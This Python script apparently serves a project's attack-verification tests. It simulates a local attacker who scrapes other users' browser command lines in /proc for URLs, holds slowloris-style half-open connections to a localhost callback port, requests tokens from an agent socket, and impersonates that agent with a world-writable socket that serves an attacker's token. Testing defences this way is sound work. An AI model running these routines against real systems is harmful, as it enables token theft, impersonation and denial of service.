"""What an attacker, or a page in the victim's browser, does: run under their own uid by Scripts/verify attacks."""

import os
import socket
import sys
import time


def arguments():
    """Prints every address that stands in the arguments of another user's process."""
    limit = time.monotonic() + 20
    seen = set()
    while time.monotonic() < limit:
        for name in os.listdir("/proc"):
            if not name.isdigit():
                continue
            try:
                if os.stat(f"/proc/{name}").st_uid == os.getuid():
                    continue
                with open(f"/proc/{name}/cmdline", "rb") as file:
                    words = file.read().split(b"\0")
            except OSError:
                continue
            if not any(b"browser" in word for word in words):
                continue
            for word in words:
                if word.startswith((b"http://", b"https://", b"file://")) and word not in seen:
                    seen.add(word)
                    print(word.decode(), flush=True)
                    return


def slow(port, count, period):
    """Opens connections and sends a byte on each now and then, for ever."""
    open_ones = []
    start = time.monotonic()
    while time.monotonic() - start < 60:
        while len(open_ones) < count:
            try:
                connection = socket.create_connection(("127.0.0.1", port), 1)
                connection.sendall(b"GET /callback?a=b HTTP/1.1\r\nX: ")
                open_ones.append(connection)
            except OSError:
                break
        print(len(open_ones), flush=True)
        time.sleep(period)
        for connection in list(open_ones):
            try:
                connection.sendall(b"x")
            except OSError:
                open_ones.remove(connection)
        # Without this the attack would end by itself as soon as the listener hangs up.
        if period > 1 and len(open_ones) == 0 and time.monotonic() - start > 30:
            return


def message(*parts):
    """A message as the agent and its clients send it."""
    body = b"\x01" + b"".join(len(part).to_bytes(4, "big") + part for part in parts)
    return len(body).to_bytes(4, "big") + body


def agent(path, home, profile):
    """Asks an agent for a token, and prints its answer."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(10)
        try:
            connection.connect(path)
        except OSError as problem:
            print(f"not reached: {problem}")
            return
        try:
            connection.sendall(message(b"token", home.encode(), profile.encode(), b"", b"", bytes(8)))
            answer = connection.recv(65536)
        except OSError:
            answer = b""
    words = []
    rest = answer[5:]
    while len(rest) >= 4:
        size = int.from_bytes(rest[:4], "big")
        words.append(rest[4:4 + size].decode("utf-8", "replace"))
        rest = rest[4 + size:]
    print(" ".join(words) or "no answer")


def pretend(path):
    """Listens as an agent would, and answers everybody with a token."""
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(path)
        os.chmod(path, 0o666)
        listener.listen()
        print("listening", flush=True)
        while True:
            connection, _ = listener.accept()
            connection.settimeout(5)
            try:
                connection.recv(65536)
                connection.sendall(message(b"token", b"of-the-attacker", b"Bearer", b"", b""))
            except OSError:
                pass
            connection.close()


if __name__ == "__main__":
    if sys.argv[1] == "arguments":
        arguments()
    elif sys.argv[1] == "agent":
        agent(*sys.argv[2:])
    elif sys.argv[1] == "pretend":
        pretend(sys.argv[2])
    else:
        slow(int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))
